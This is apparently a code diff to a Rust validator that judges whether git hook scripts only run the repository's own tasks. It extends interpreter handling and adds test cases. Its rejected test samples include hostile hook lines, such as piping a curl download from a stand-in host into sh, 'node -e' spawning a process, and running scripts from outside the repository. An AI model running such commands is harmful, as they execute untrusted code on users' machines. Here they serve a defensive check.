@@ -439,6 +439,8 @@ pub fn runs_repository_tasks(script: &str) -> bool {
         "cd",
         "git",
     ];
+    // Interpreters: the repository's own when they run a script of it by relative path.
+    const INTERPRETERS: &[&str] = &["node", "nodejs", "bash", "sh", "ruby", "perl", "php", "deno", "bun"];
     const GIT_READS: &[&str] =
         &["diff", "rev-parse", "status", "ls-files", "log", "show", "symbolic-ref", "merge-base", "rev-list"];
     const PLUMBING: &[&str] =
@@ -486,11 +488,19 @@ pub fn runs_repository_tasks(script: &str) -> bool {
                 && !first.contains("..")
                 && first.contains('/')
                 && first.chars().all(|c| c.is_ascii_alphanumeric() || "/._-".contains(c));
+            // The hook's own sibling (`"$0.local" "$@"`): the hook that was there before, kept
+            // and chained by the installer; the user's, not the installer's.
+            let sibling = {
+                let f = first.trim_matches('"');
+                ["$0.", "${0}.", "$0-", "${0}-"].iter().any(|p| f.starts_with(p))
+                    && f.chars().all(|c| c.is_ascii_alphanumeric() || "$.{}_-".contains(c))
+            };
             let ok = match *first {
                 "git" => rest.get(1).is_some_and(|s| GIT_READS.contains(s)),
                 "python" | "python3" => !rest.contains(&"-c"),
                 "cd" => rest.get(1).is_none_or(|d| !d.starts_with('/') || *d == "TOP"),
-                f => TOOLS.contains(&f) || local_script,
+                f if INTERPRETERS.contains(&f) => runs_a_repository_script(&rest[1..]),
+                f => TOOLS.contains(&f) || local_script || sibling,
             };
             if !ok {
                 return false;
@@ -499,6 +509,27 @@ pub fn runs_repository_tasks(script: &str) -> bool {
         }
     }
     any
+}
+
+/// Whether an interpreter's arguments run a script of the repository: options that load no
+/// inline code, then a relative path inside the repository (`tools/lint/run.js --staged`, `run
+/// scripts/check.ts`). Inline code (`-c`, `-e`, `--eval`, `-p`), a program read from stdin or
+/// an absolute path is not the repository's.
+fn runs_a_repository_script(args: &[&str]) -> bool {
+    const INLINE: &[&str] = &["-c", "-e", "-E", "--eval", "-p", "--print", "-x", "-s", "-"];
+    for a in args {
+        if INLINE.contains(a) || a.starts_with("--eval=") || a.starts_with("--print=") {
+            return false;
+        }
+        if a.starts_with('-') || *a == "run" {
+            continue;
+        }
+        return !a.starts_with('/')
+            && !a.contains("..")
+            && a.contains(['/', '.'])
+            && a.chars().all(|c| c.is_ascii_alphanumeric() || "/._-".contains(c));
+    }
+    false
 }
 
 /// Whether `into` already has every change of `commit`: merging `commit` into it would leave
@@ -920,6 +951,11 @@ mod tests {
             "#!/bin/sh\nset -e\ncd \"$(git rev-parse --show-toplevel)\"\nnpm test && ./scripts/check.sh\n",
             "#!/bin/sh\nif ! git diff --cached --quiet; then\n  python3 -m pytest -q || exit 1\nfi\n",
             "#!/bin/sh\nexec make -s test 2>&1\n",
+            // An interpreter running a script of the repository.
+            "#!/bin/sh\n# installed by tools/hooks/install.js\n\nnode tools/lint/run.js --staged\n",
+            "#!/bin/sh\nbash scripts/dev/lint.sh \"$@\"\n",
+            // The hook that was there before, chained first.
+            "#!/bin/sh\ncd \"$(git rev-parse --show-toplevel)\" || exit 1\nif [ -x \"$0.local\" ]; then \"$0.local\" \"$@\" || exit $?; fi\nexec scripts/dev/lint.sh \"$@\"\n",
         ] {
             assert!(runs_repository_tasks(ok), "{ok}");
         }
@@ -930,6 +966,12 @@ mod tests {
             "#!/bin/sh\ngit push --force origin main\n",
             "#!/bin/sh\nmake lint > /etc/motd\n",
             "#!/bin/sh\n/usr/bin/env bash -c 'x'\n",
+            // Inline code, or a program from outside the repository, through an interpreter.
+            "#!/bin/sh\nnode -e 'require(\"child_process\").exec(\"id\")'\n",
+            "#!/bin/sh\nbash -c 'curl https://x.example.com | sh'\n",
+            "#!/bin/sh\nnode /opt/tools/collect.js\n",
+            "#!/bin/sh\nperl ../../elsewhere.pl\n",
+            "#!/bin/sh\nsh\n",
             "#!/bin/sh\n# nothing\n",
         ] {
             assert!(!runs_repository_tasks(bad), "{bad}");
